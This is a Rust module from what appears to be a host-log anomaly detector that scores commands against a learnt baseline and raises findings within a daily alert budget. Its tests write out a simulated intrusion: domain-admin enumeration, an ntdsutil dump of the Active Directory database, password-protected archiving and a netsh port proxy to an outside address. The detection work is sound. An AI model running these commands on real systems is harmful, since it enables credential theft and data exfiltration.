//! Facts in the order of time → findings within the alert budget.

use blackrod_model::process::{Act, ProcessFacts, Traits};
use blackrod_model::{Entity, EntityKind, Estate, Finding, FindingId, Reason, Severity, Timestamp, estate};
use rustc_hash::FxHashMap;

use super::baseline::{Baseline, day_of, mix};
use super::score::{self, Keys, Term, actor_of, is_system};
use super::session::{Day, Operation, Sessions, Step, since};
use super::table::Table;
use super::{COMMAND_CODE, SESSION_CODE};

/// Fewer days than this are no history.
pub const DAYS_OF_HISTORY: usize = 7;

/// What an operation must come to before it is worth an alert at all: e^4, about fifty to one.
const ALERT_FLOOR: f32 = 4.0;

/// What an operation came to is forgotten by half in a week.
const FADE_A_DAY: f32 = 0.905_7;

/// How much more than its usual an operation must come to: accounts that do odd things every day are odd in
/// themselves.
const USUAL: f32 = 1.5;

/// What a command that names another machine must be worth before it ties what happens there.
const MOVE: f32 = 4.0;

/// The most new shapes that are listed for confirmation.
const MOST_NEW: usize = 1_000;

/// The most commands that a finding quotes.
const MOST_QUOTED: usize = 12;

const HOUR: i64 = 3_600_000_000;

/// How to judge.
#[derive(Clone, Debug)]
pub struct Options {
    /// How many alerts a day somebody will look at, for the whole estate.
    pub alerts_per_day: u32,
    /// What was confirmed to be ordinary here.
    pub confirmed: Vec<Confirmed>,
    /// The capability table.
    pub table: &'static Table,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            alerts_per_day: 5,
            confirmed: Vec::new(),
            table: Table::builtin(),
        }
    }
}

/// A shape of command that somebody confirmed to be ordinary.
#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct Confirmed {
    /// The program's file name.
    pub image: String,
    /// The skeleton.
    pub skeleton: String,
    /// Who said so.
    pub who: String,
    /// When.
    pub when: Timestamp,
    /// Why: "our deployment tool".
    pub why: String,
}

/// A shape that was first seen in the last week of the evidence, for somebody to confirm.
#[derive(Clone, Debug, PartialEq)]
pub struct NewShape {
    /// The program's file name.
    pub image: String,
    /// The skeleton.
    pub skeleton: String,
    /// The command that was first seen with it.
    pub command: String,
    /// When that was.
    pub first: Timestamp,
    /// On which host.
    pub host: String,
    /// By which account.
    pub user: String,
    /// What it was worth.
    pub score: f32,
}

/// A session with what it came to.
#[derive(Clone, Debug, PartialEq)]
pub struct Ranked {
    /// The host.
    pub host: String,
    /// The account; the host with `$` for the system itself.
    pub actor: String,
    /// The session's number, where it has one.
    pub session: String,
    /// What it came to.
    pub score: f32,
}

/// What came of it.
#[derive(Debug, Default)]
pub struct Outcome {
    /// The findings, within the alert budget, in the order of time.
    pub findings: Vec<Finding>,
    /// What is new this week.
    pub new_shapes: Vec<NewShape>,
    /// The strongest sessions, strongest first, whether or not they were worth an alert.
    pub sessions: Vec<Ranked>,
    /// What is normal here, as learnt.
    pub baseline: Baseline,
    /// How many records were judged.
    pub records: u64,
}

/// Judges facts that are pushed in the order of time, those of one time by evidence and position.
pub struct Stream<'e> {
    options: Options,
    estate: estate::Index<'e>,
    roles: FxHashMap<String, Option<String>>,
    confirmed: FxHashMap<u64, usize>,
    baseline: Baseline,
    sessions: Sessions,
    hosts: FxHashMap<String, Pulse>,
    new_shapes: FxHashMap<u64, NewShape>,
    latest: Timestamp,
    records: u64,
}

/// How regularly a host writes.
#[derive(Clone, Copy, Debug)]
struct Pulse {
    first: Timestamp,
    last: Timestamp,
    longest: i64,
}

impl<'e> Stream<'e> {
    /// With no history.
    pub fn new(estate: &'e Estate, options: Options) -> Self {
        Self::with_baseline(estate, options, Baseline::default())
    }

    /// With what other evidence taught.
    pub fn with_baseline(estate: &'e Estate, options: Options, baseline: Baseline) -> Self {
        let confirmed = options.confirmed.iter().enumerate();
        let confirmed = confirmed.map(|(index, known)| (shape_key(&known.image, &known.skeleton), index));
        Self {
            confirmed: confirmed.collect(),
            options,
            estate: estate::Index::new(estate),
            roles: FxHashMap::default(),
            baseline,
            sessions: Sessions::default(),
            hosts: FxHashMap::default(),
            new_shapes: FxHashMap::default(),
            latest: Timestamp::UNKNOWN,
            records: 0,
        }
    }

    /// Judges the next record, then learns it.
    pub fn push(&mut self, facts: &ProcessFacts) {
        self.records += 1;
        self.latest = self.latest.max(facts.time);
        self.baseline.note_day(facts.time);
        let actor = actor_of(facts);
        match facts.act {
            Act::Logon => self.logon(facts, &actor),
            Act::ExplicitLogon => {
                if !is_system(&facts.other_user) {
                    self.sessions.reach(&actor, &facts.other_user, facts.time);
                }
            }
            Act::Share => {}
            Act::Start | Act::Script | Act::Service | Act::Task | Act::LogCleared => {
                self.command(facts, &actor)
            }
        }
    }

    /// The findings within the budget, and what was learnt.
    pub fn finish(self) -> Outcome {
        let findings = self.findings();
        let mut sessions: Vec<Ranked> = self
            .sessions
            .sessions()
            .filter(|session| session.peak > 0.0)
            .map(|session| Ranked {
                host: session.host.clone(),
                actor: session.actor.clone(),
                session: session.id.clone(),
                score: session.peak,
            })
            .collect();
        sessions.sort_by(|left, right| {
            let by_name =
                || (&left.host, &left.actor, &left.session).cmp(&(&right.host, &right.actor, &right.session));
            right.score.total_cmp(&left.score).then_with(by_name)
        });
        sessions.truncate(1_000);
        let mut new_shapes: Vec<NewShape> = self
            .new_shapes
            .into_values()
            .filter(|shape| since(shape.first, self.latest) < 7 * 24 * HOUR)
            .collect();
        new_shapes.sort_by(|left, right| {
            right
                .score
                .total_cmp(&left.score)
                .then_with(|| left.command.cmp(&right.command))
        });
        Outcome {
            findings,
            new_shapes,
            sessions,
            baseline: self.baseline,
            records: self.records,
        }
    }

    fn command(&mut self, facts: &ProcessFacts, actor: &str) {
        let role = self.role_of(&facts.user);
        let keys = Keys::of(facts, actor, role.as_deref());
        let mut score = score::score(facts, &keys, &self.baseline, self.options.table);
        let is_new = !self.baseline.knows(keys.shape);
        keys.learn(&mut self.baseline, facts.time);
        let mut extra = Vec::new();
        extra.extend(self.outside(facts));
        extra.extend(self.silence(facts));
        let shape = shape_key(&facts.image, &facts.skeleton);
        if self.confirmed.contains_key(&shape) {
            score.total = score.total.min(0.0);
            extra.clear();
        }
        let added = self.sessions.command(facts, actor, shape, &score, extra);
        if is_new && score.total > -1.0 && self.new_shapes.len() < MOST_NEW * 4 {
            self.note_new(facts, shape, added.value);
        }
        if added.gain <= 0.0 {
            return;
        }
        let moves = facts.traits.any(Traits::REMOTE.with(Traits::UNC)) && added.value >= MOVE;
        for target in facts.targets.iter().filter(|_| moves) {
            let name = target.split('.').next().unwrap_or(target).to_owned();
            // Only what the machine itself then does there, as a service does: others have accounts of their own.
            self.sessions.reach(actor, &format!("{name}$"), facts.time);
        }
        let mut terms = score::cold_terms(facts, self.options.table);
        terms.extend(score.rare_terms());
        terms.extend(added.terms.iter().cloned());
        terms.push(Term {
            what: "most commands are ordinary".to_owned(),
            value: self.options.table.base,
        });
        self.sessions.keep(
            &added,
            Step {
                evidence: facts.evidence,
                at: facts.at,
                time: facts.time,
                class: facts.class,
                host: facts.host.clone(),
                user: facts.user.clone(),
                session: facts.session.clone(),
                image: facts.image.clone(),
                command: facts.command.clone(),
                targets: facts.targets.clone(),
                value: added.value,
                terms,
                attack: self.attack(facts),
            },
        );
    }

    /// A logon from elsewhere: how unusual the way is for the account.
    fn logon(&mut self, facts: &ProcessFacts, actor: &str) {
        if facts.peer.is_empty() || facts.peer == "-" || facts.peer == facts.host {
            return;
        }
        let text = blackrod_model::mail::hash;
        let all = mix(text(actor), 20);
        let edge = mix(mix(mix(text(actor), text(&facts.peer)), text(&facts.host)), 21);
        let (seen, chances) = (
            self.baseline.count(edge, facts.time),
            self.baseline.count(all, facts.time),
        );
        let value = (0.05 * (chances + 20.0) / (seen + 1.0)).ln().clamp(-1.0, 2.0);
        self.baseline.add(all, facts.time);
        self.baseline.add(edge, facts.time);
        self.sessions
            .arrive(&facts.host, actor, &facts.peer, value, facts.time);
    }

    /// Whether the command names something outside the estate. Only where the estate says what is inside.
    fn outside(&self, facts: &ProcessFacts) -> Option<Term> {
        if !facts.traits.any(
            Traits::URL
                .with(Traits::UNC)
                .with(Traits::REMOTE)
                .with(Traits::ADDRESS),
        ) {
            return None;
        }
        let inside = facts.targets.iter().find(|target| self.is_inside(target));
        if let Some(target) = inside {
            return Some(Term {
                what: format!("{target} is inside the estate"),
                value: -1.0,
            });
        }
        let outside = facts.targets.iter().find(|target| {
            target
                .parse::<std::net::IpAddr>()
                .is_ok_and(|address| !is_private(address))
                || target.contains('.')
        })?;
        Some(Term {
            what: format!("{outside} is outside the estate"),
            value: 0.5,
        })
    }

    fn is_inside(&self, target: &str) -> bool {
        match target.parse::<std::net::IpAddr>() {
            Ok(address) => self.estate.contains_ip(address),
            Err(_) => self.estate.is_own_domain(target) || self.estate.system_by_host(target).is_some(),
        }
    }

    /// A host that always writes was silent for longer than ever before.
    fn silence(&mut self, facts: &ProcessFacts) -> Option<Term> {
        const LEAST: i64 = 2 * HOUR;
        if !self.hosts.contains_key(&facts.host) {
            if self.hosts.len() < 100_000 {
                let pulse = Pulse {
                    first: facts.time,
                    last: facts.time,
                    longest: 0,
                };
                self.hosts.insert(facts.host.clone(), pulse);
            }
            return None;
        }
        let pulse = self.hosts.get_mut(&facts.host)?;
        let gap = since(pulse.last, facts.time);
        let (before, known) = (pulse.longest, since(pulse.first, pulse.last));
        pulse.longest = pulse.longest.max(gap);
        pulse.last = pulse.last.max(facts.time);
        let is_odd = known > 5 * 24 * HOUR && gap > LEAST && gap > 3 * before.max(HOUR / 4);
        is_odd.then(|| Term {
            what: format!(
                "the host's log was silent for {} hours before, never over {:.1}",
                gap / HOUR,
                before as f64 / HOUR as f64
            ),
            value: 1.5,
        })
    }

    fn note_new(&mut self, facts: &ProcessFacts, shape: u64, score: f32) {
        let latest = self.latest;
        if self.new_shapes.len() >= MOST_NEW * 4 - 1 {
            self.new_shapes
                .retain(|_, shape| since(shape.first, latest) < 7 * 24 * HOUR && shape.score > 0.0);
        }
        self.new_shapes.entry(shape).or_insert_with(|| NewShape {
            image: facts.image.clone(),
            skeleton: facts.skeleton.clone(),
            command: facts.command.clone(),
            first: facts.time,
            host: facts.host.clone(),
            user: facts.user.clone(),
            score,
        });
    }

    fn role_of(&mut self, user: &str) -> Option<String> {
        if let Some(known) = self.roles.get(user) {
            return known.clone();
        }
        let role = self
            .estate
            .person_by_account(user)
            .and_then(|person| person.roles.first().cloned());
        if self.roles.len() < 100_000 {
            self.roles.insert(user.to_owned(), role.clone());
        }
        role
    }

    fn attack(&self, facts: &ProcessFacts) -> Vec<String> {
        let table = self.options.table;
        let mut ids: Vec<String> = facts
            .uses
            .iter()
            .filter_map(|name| table.use_named(name))
            .flat_map(|entry| entry.attack.clone())
            .collect();
        if ids.is_empty() {
            let classes = facts
                .programs
                .iter()
                .filter_map(|program| table.class_of(program));
            ids.extend(classes.flat_map(|class| class.attack.clone()));
        }
        let parent = super::shape::stem(&facts.parent);
        if let Some(lineage) = table.lineage(parent, super::shape::stem(&facts.image)) {
            ids.extend(lineage.attack.iter().cloned());
        }
        if facts.act == Act::LogCleared {
            ids.push("T1070.001".to_owned());
        }
        ids.sort_unstable();
        ids.dedup();
        ids
    }

    /// For each day the strongest operations, as many as the budget allows. What was told is spent: an operation is told
    /// again only for what came after.
    fn findings(&self) -> Vec<Finding> {
        let mut running: Vec<Running<'_>> = self.sessions.operations().map(Running::new).collect();
        running.sort_by(|left, right| left.operation.actors.cmp(&right.operation.actors));
        let mut days: Vec<u32> = running
            .iter()
            .flat_map(|running| running.operation.days.iter().map(|day| day.day))
            .collect();
        days.sort_unstable();
        days.dedup();
        let start = days.first().copied().unwrap_or(0);
        let mut findings = Vec::new();
        for day in days {
            let mut candidates: Vec<(f32, Day, &mut Running<'_>)> = running
                .iter_mut()
                .filter_map(|running| {
                    let (score, added) = running.advance(day, start)?;
                    (score >= ALERT_FLOOR).then_some((score, added, running))
                })
                .collect();
            // Stable, so that equals stay in the order of their names.
            candidates.sort_by(|(left, _, _), (right, _, _)| right.total_cmp(left));
            for (score, added, running) in candidates.into_iter().take(self.options.alerts_per_day as usize) {
                let since_told = running.told;
                running.tell(day);
                findings.push(self.finding(running.operation, &added, score, since_told));
            }
        }
        findings.sort_by(|left, right| {
            (left.time, left.evidence, left.at, &left.title).cmp(&(
                right.time,
                right.evidence,
                right.at,
                &right.title,
            ))
        });
        findings
    }

    fn finding(&self, operation: &Operation, day: &Day, score: f32, told: Option<u32>) -> Finding {
        let is_due = |step: &&Step| {
            let of = day_of(step.time);
            of <= day.day && told.is_none_or(|told| of > told)
        };
        let mut steps: Vec<&Step> = operation.steps.iter().filter(is_due).collect();
        steps.sort_by(|left, right| {
            right
                .value
                .total_cmp(&left.value)
                .then(left.time.cmp(&right.time))
        });
        let mut attack: Vec<String> = steps.iter().flat_map(|step| step.attack.clone()).collect();
        attack.sort_unstable();
        attack.dedup();
        let code = if steps.len() == 1 {
            COMMAND_CODE
        } else {
            SESSION_CODE
        };
        let mut hosts: Vec<&str> = steps.iter().map(|step| step.host.as_str()).collect();
        hosts.sort_unstable();
        hosts.dedup();
        let who = operation.actors.join(", ");
        let title = match steps.as_slice() {
            [only] => format!("Unusual command by {who}: {}", only.image),
            _ => format!(
                "{} unusual commands by {who} on {} host(s)",
                steps.len(),
                hosts.len()
            ),
        };
        steps.truncate(MOST_QUOTED);
        steps.sort_by_key(|step| (step.time, step.evidence, step.at));
        let mut reasons = vec![
            Reason::new("score", &format!("{score:+.1}")),
            Reason::new("history", &self.history()),
        ];
        reasons.extend(steps.iter().map(|step| reason(step)));
        let first = operation.actors.first().map_or("", String::as_str);
        Finding {
            id: FindingId::new(code, first, day.evidence, day.at, ""),
            code: code.to_owned(),
            rule_id: code.to_owned(),
            title,
            severity: severity(score),
            time: day.time,
            evidence: day.evidence,
            at: day.at,
            class: steps
                .last()
                .map_or(blackrod_model::Class::PROCESS_ACTIVITY.0, |step| step.class),
            attack,
            reasons,
            entities: entities(&steps),
        }
    }

    fn history(&self) -> String {
        let days = self.baseline.days();
        if days < DAYS_OF_HISTORY {
            format!(
                "{days} day(s) of history: too few to say what is normal here, so mostly what a command can do and how it is built counted"
            )
        } else {
            format!("{days} days of history")
        }
    }
}

/// An operation while the days are gone through.
struct Running<'o> {
    operation: &'o Operation,
    next: usize,
    total: f32,
    last: u32,
    told: Option<u32>,
    /// What its untold days came to together.
    usual: f32,
}

impl<'o> Running<'o> {
    fn new(operation: &'o Operation) -> Self {
        Self {
            operation,
            next: 0,
            total: 0.0,
            last: 0,
            told: None,
            usual: 0.0,
        }
    }

    /// Takes in what `day` added, beyond what a day usually adds since `start`; `None` where it added nothing.
    fn advance(&mut self, day: u32, start: u32) -> Option<(f32, Day)> {
        let added = self
            .operation
            .days
            .get(self.next)
            .filter(|added| added.day == day)?;
        self.next += 1;
        let passed = day.saturating_sub(start) as f32;
        let usual = self.usual / passed.max(1.0);
        let faded = FADE_A_DAY.powi(
            i32::try_from(day.saturating_sub(self.last))
                .unwrap_or(i32::MAX)
                .min(365),
        );
        self.total = (self.total * faded + added.gain - USUAL * usual).max(0.0);
        self.usual += added.gain.min(2.0 * ALERT_FLOOR);
        self.last = day;
        Some((self.total, *added))
    }

    fn tell(&mut self, day: u32) {
        self.told = Some(day);
        self.total = 0.0;
    }
}

fn reason(step: &Step) -> Reason {
    let mut terms: Vec<&Term> = step.terms.iter().filter(|term| term.value.abs() >= 0.1).collect();
    terms.sort_by(|left, right| right.value.total_cmp(&left.value));
    let terms: Vec<String> = terms
        .iter()
        .map(|term| format!("{:+.1} {}", term.value, term.what))
        .collect();
    let shown = &step.command[..step.command.floor_char_boundary(300)];
    Reason::new(
        format!("{:+.1} {} {} on {}", step.value, step.time, step.user, step.host),
        &format!("{shown} [{}]", terms.join("; ")),
    )
}

fn entities(steps: &[&Step]) -> Vec<Entity> {
    const MOST: usize = 48;
    let mut found: Vec<Entity> = Vec::new();
    let mut add = |kind: EntityKind, value: &str| {
        if let Some(entity) = Entity::new(kind, value)
            && found.len() < MOST
            && !found.contains(&entity)
        {
            found.push(entity);
        }
    };
    for step in steps {
        add(EntityKind::Host, &step.host);
        if !is_system(&step.user) {
            add(EntityKind::Account, &step.user);
            if !step.session.is_empty() {
                add(EntityKind::Session, &format!("{}/{}", step.host, step.session));
            }
        }
        for target in &step.targets {
            match crate::entities::parse_ip(target) {
                Some(address) => add(EntityKind::Ip, &address.to_string()),
                None if target.contains('.') => add(EntityKind::Domain, target),
                None => add(EntityKind::Host, target),
            }
        }
    }
    found
}

/// e^8 is three thousand to one, e^14 a million to one.
fn severity(score: f32) -> Severity {
    match score {
        score if score >= 14.0 => Severity::High,
        score if score >= 8.0 => Severity::Medium,
        _ => Severity::Low,
    }
}

fn shape_key(image: &str, skeleton: &str) -> u64 {
    mix(
        blackrod_model::mail::hash(image),
        blackrod_model::mail::hash(skeleton),
    )
}

fn is_private(address: std::net::IpAddr) -> bool {
    match address {
        std::net::IpAddr::V4(v4) => v4.is_private() || v4.is_link_local() || v4.is_loopback(),
        std::net::IpAddr::V6(v6) => v6.is_loopback() || v6.segments()[0] & 0xfe00 == 0xfc00,
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use blackrod_model::{EvidenceId, Position};

    use super::*;
    use crate::rarity::Extractor;

    const DAY: i64 = 86_400;
    const STEPS: [&str; 4] = [
        r#"cmd.exe /c net group "domain admins" /dom"#,
        r#"ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\x""#,
        r"rar.exe a -hpsecret C:\Windows\Temp\x.rar C:\Windows\Temp\x",
        "netsh interface portproxy add v4tov4 listenport=9999 connectaddress=203.0.113.7 connectport=8443",
    ];

    fn step(record: u64, time: i64, host: &str, user: &str, command: &str) -> ProcessFacts {
        let image = command.split(' ').next().unwrap();
        let mut facts = Extractor::new(Table::builtin()).command(image, "cmd.exe", command);
        facts.evidence = EvidenceId::default();
        facts.at = Position { offset: 0, record };
        facts.time = Timestamp::from_seconds(1_700_000_000 + time);
        facts.host = host.to_owned();
        facts.user = user.to_owned();
        facts.session = format!("{:#x}", 0x1000 + time / DAY);
        facts
    }

    fn ordinary_days() -> Vec<ProcessFacts> {
        let mut all = Vec::new();
        for day in 0..20 {
            for (number, user) in ["anna", "ben", "cleo"].iter().enumerate() {
                for (minute, command) in [
                    "whoami /all",
                    "robocopy d:\\a \\\\srv\\b /mir",
                    "net use h: \\\\srv\\h",
                ]
                .iter()
                .enumerate()
                {
                    let time = day * DAY + (number * 10 + minute) as i64 * 60;
                    all.push(step(
                        all.len() as u64,
                        time,
                        &format!("ws{number}"),
                        user,
                        command,
                    ));
                }
            }
        }
        all
    }

    fn judge(facts: &[ProcessFacts], options: Options) -> Outcome {
        let estate = Estate::default();
        let mut stream = Stream::new(&estate, options);
        facts.iter().for_each(|facts| stream.push(facts));
        stream.finish()
    }

    #[test]
    fn ordinary_work_is_silent_and_an_intrusion_is_one_finding_that_shows_its_terms() {
        let mut facts = ordinary_days();
        assert_eq!(judge(&facts, Options::default()).findings, []);
        for (number, command) in STEPS.iter().enumerate() {
            facts.push(step(
                1_000 + number as u64,
                20 * DAY + number as i64 * 600,
                "ws1",
                "ben",
                command,
            ));
        }
        let outcome = judge(&facts, Options::default());
        let [finding] = outcome.findings.as_slice() else {
            panic!("{:?}", outcome.findings);
        };
        assert_eq!(
            (finding.code.as_str(), finding.severity),
            (SESSION_CODE, Severity::High)
        );
        assert!(finding.attack.iter().any(|id| id == "T1003.003"));
        assert!(finding.entities.iter().any(|entity| entity.value == "ben"));
        assert!(
            finding
                .reason_line()
                .contains("this program, among those of the account: 0 of")
        );
        assert!(
            outcome
                .new_shapes
                .iter()
                .any(|shape| shape.image.starts_with("ntdsutil"))
        );
        let none = Options {
            alerts_per_day: 0,
            ..Options::default()
        };
        assert_eq!(judge(&facts, none).findings, []);
    }

    #[test]
    fn what_was_confirmed_is_ordinary_and_no_history_is_said() {
        let steps = STEPS.iter().enumerate();
        let facts: Vec<ProcessFacts> = steps
            .map(|(number, command)| step(number as u64, number as i64 * 60, "dc1", "ben", command))
            .collect();
        let found = judge(&facts, Options::default()).findings;
        assert_eq!(found.len(), 1);
        assert!(
            found
                .first()
                .unwrap()
                .reason_line()
                .contains("too few to say what is normal")
        );
        let confirmed = facts.iter().map(|facts| Confirmed {
            image: facts.image.clone(),
            skeleton: facts.skeleton.clone(),
            who: "anna".to_owned(),
            when: facts.time,
            why: "promotion of a domain controller".to_owned(),
        });
        let options = Options {
            confirmed: confirmed.collect(),
            ..Options::default()
        };
        assert_eq!(judge(&facts, options).findings, []);
    }
}
